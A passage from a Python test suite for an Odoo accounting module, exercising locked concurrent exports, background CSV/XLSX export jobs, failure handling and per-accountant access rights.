        other.execute("SELECT pg_advisory_xact_lock(%s, %s)", (EXPORT_LOCK_CLASS, self.accountant.id))
        response = self._download("csv")
        self.assertIn("Another export of yours is being written", response.text)
        self.assertFalse(self._batches())
        other.rollback()
        # At most one download written at once on the server by default,
        # whoever asks: the other HTTP workers stay free.
        other.execute("SELECT pg_advisory_xact_lock(%s, %s)", (EXPORT_SLOT_CLASS, 0))
        response = self._download("csv")
        self.assertIn("The server is writing other exports", response.text)
        self.assertFalse(self._batches())
        self.env["ir.config_parameter"].sudo().set_param(EXPORT_SLOTS_PARAM, "2")
        self._download("csv")
        self.assertEqual(len(self._batches()), 1, "a second slot configured")
        # This download's locks are held until its transaction ends: another
        # worker cannot take them meanwhile.
        other.rollback()
        other.execute("SELECT pg_try_advisory_xact_lock(%s, %s)", (EXPORT_LOCK_CLASS, self.accountant.id))
        self.assertFalse(other.fetchone()[0])
        other.rollback()
        # In the background too: one queued or running export per accountant.
        self._queue()
        response = self._queue(period="quarter", year="2026", quarter="1")
        self.assertIn("still being prepared", response.text)
        self.assertEqual(len(self._requests()), 1)

    def test_background_job_writes_the_file_and_the_batch_at_the_end(self):
        direct = self._download("csv", period="quarter", year="2026", quarter="1").content
        direct_batch = self._batches()
        cron = self.env.ref("invoice_workflow_audit.ir_cron_accountant_exports")
        triggers = self.env["ir.cron.trigger"].search_count([("cron_id", "=", cron.id)])
        response = self._queue(period="quarter", year="2026", quarter="1")
        self.assertIn("is being prepared in the background", response.text)
        request = self._requests()
        self.assertEqual(
            (request.state, request.user_id, request.file_format), ("queued", self.accountant, "csv")
        )
        self.assertEqual(request.line_total, direct_batch.line_count)
        self.assertEqual(self.env["ir.cron.trigger"].search_count([("cron_id", "=", cron.id)]), triggers + 1)
        self.assertIn("Queued", self._get(self._url("/exports")))

        # Chunks of 3 journal items, read 2 at a time: the file grows, no batch yet.
        with (
            patch(f"{EXPORT_MODULE}.EXPORT_BATCH_SIZE", 2),
            patch(f"{REQUEST_MODULE}.CHUNK_ITEMS", 3),
        ):
            self.env["invoice.accountant.export.request"]._cron_process()
            request = self._requests()
            self.assertEqual((request.state, request.line_done), ("running", 4))
            self.assertFalse(self._batches() - direct_batch, "no batch before the file is complete")
            self.assertIn("Running", self._get(self._url("/exports")))
            self._run_cron()
        request = self._requests()
        batch = self._batches() - direct_batch
        self.assertEqual((request.state, request.batch_id), ("done", batch))
        self.assertEqual(
            (batch.user_id, batch.line_count, batch.move_count),
            (self.accountant, direct_batch.line_count, direct_batch.move_count),
        )
        self.assertEqual(batch.date, request.started_at, "collected when the file was started")
        # The very file a direct download gives, listed and downloaded from the portal.
        self.assertEqual(batch.checksum, hashlib.sha256(direct).hexdigest())
        page = self._get(self._url("/exports"))
        self.assertIn(f"/exports/{batch.id}/download", page)
        self.assertEqual(self.url_open(self._url(f"/exports/{batch.id}/download")).content, direct)
        self.assertFalse(os.path.exists(request._part_path()), "the working file is gone")
        # The accountant is e-mailed.
        mail = (
            self.env["mail.mail"]
            .sudo()
            .search([("email_to", "ilike", self.accountant.email)], order="id desc", limit=1)
        )
        self.assertIn(request.period_label, mail.subject)
        self.assertIn("is ready", mail.subject)

    def test_background_xlsx(self):
        with patch(f"{REQUEST_MODULE}.XLSX_MAX_ITEMS", 3):
            response = self._queue("xlsx")
        self.assertIn("Choose CSV, which has no limit", response.text)
        self.assertFalse(self._requests())
        self._queue("xlsx")
        self._run_cron()
        request = self._requests()
        self.assertEqual(request.state, "done")
        content = self.url_open(self._url(f"/exports/{request.batch_id.id}/download")).content
        rows = list(
            openpyxl.load_workbook(io.BytesIO(content), read_only=True).active.iter_rows(values_only=True)
        )
        self.assertEqual(list(rows[0]), HEADER)
        self.assertEqual(len(rows) - 1, len(self._january_lines()))

    def test_failure_leaves_no_batch_and_says_so(self):
        self._queue()

        def disk_full(*args, **kwargs):
            raise OSError("No space left on device")

        Export = type(self.env["invoice.accountant.batch.export"])
        with patch.object(Export, "_export_csv_chunk", disk_full), mute_logger(REQUEST_MODULE):
            self._run_cron()
        request = self._requests()
        self.assertEqual(request.state, "failed")
        self.assertIn("No space left on device", request.error)
        self.assertFalse(request.batch_id)
        self.assertFalse(self._batches(), "no batch for a file never completed")
        page = self._get(self._url("/exports"))
        self.assertIn("Failed", page)
        self.assertIn("No space left on device", page)
        mail = (
            self.env["mail.mail"]
            .sudo()
            .search([("email_to", "ilike", self.accountant.email)], order="id desc", limit=1)
        )
        self.assertIn("failed", mail.subject)
        # The accountant may ask again, and this time it works.
        self._queue()
        self._run_cron()
        self.assertEqual(self._requests()[-1].state, "done")
        self.assertEqual(len(self._batches()), 1)

    def test_an_xlsx_interrupted_again_and_again_fails(self):
        """A whole XLSX is written in one call: one killed by the time limit
        (its transaction rolled back, its start counted) is not started for ever."""
        self._queue("xlsx")
        request = self._requests()
        request._write_protected({"attempts": 3})
        self._run_cron()
        request = self._requests()
        self.assertEqual(request.state, "failed")
        self.assertIn("Interrupted 3 times", request.error)
        self.assertFalse(self._batches())

    def test_requests_are_the_accountants_own(self):
        self._queue()
        request = self._requests()
        with self.assertRaises(AccessError):
            request.write({"state": "done"})
        with self.assertRaises(AccessError):
            request.with_user(self.accountant).read(["state"])
        # Another accountant of the same company does not see it.
        colleague = new_test_user(self.env, login="iwa_colleague", groups="base.group_portal")
        self.company.with_user(self.admin_user).accountant_user_ids = [Command.link(colleague.id)]
        self.authenticate(colleague.login, colleague.login)
        self.assertNotIn("o_accountant_export_request", self._get(self._url("/exports")))
